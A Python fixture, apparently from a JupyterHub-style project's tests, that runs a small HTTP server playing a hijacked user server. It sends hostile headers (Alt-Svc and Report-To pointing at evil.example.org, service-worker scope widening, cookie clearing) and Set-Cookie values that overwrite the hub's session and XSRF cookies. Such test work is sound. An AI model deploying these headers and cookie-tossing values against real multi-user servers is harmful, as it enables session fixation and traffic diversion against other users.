# SPDX-FileCopyrightText: 2026 galilean.hub contributors
# SPDX-License-Identifier: BSD-3-Clause
"""What a user's server can be once its user has replaced it: pages and headers of any kind."""

from __future__ import annotations

from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

HEADERS = {
    "Service-Worker-Allowed": "/",
    "Clear-Site-Data": '"cookies"',
    "Cross-Origin-Opener-Policy": "same-origin",
    "Strict-Transport-Security": "max-age=1",
    "Alt-Svc": 'h3="evil.example.org:443"; persist=1',
    "NEL": '{"report_to": "evil", "max_age": 9}',
    "Report-To": '{"group": "evil", "max_age": 9, "endpoints": [{"url": "https://evil.example.org"}]}',
    "X-Accel-Redirect": "/_edge/health",
}
COOKIES = (
    "_xsrf=evil; Path=/hub/",
    "jupyterhub-hub-login=evil; Path=/hub/",
    "jupyterhub-session-id=evil; Path=/; Domain=localhost",
    "own=1; Path=/user/eve/deeper/",
)


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        script = ".js" in self.path
        body = b"" if script else b"<!doctype html><title>evil</title>"
        self.send_response(503 if "away" in self.path else 200)
        self.send_header("Content-Type", "text/javascript" if script else "text/html")
        self.send_header("Content-Length", str(len(body)))
        for name, value in HEADERS.items():
            self.send_header(name, value)
        for cookie in COOKIES:
            self.send_header("Set-Cookie", cookie)
        self.end_headers()
        self.wfile.write(body)


if __name__ == "__main__":
    ThreadingHTTPServer(("", 8888), Handler).serve_forever()
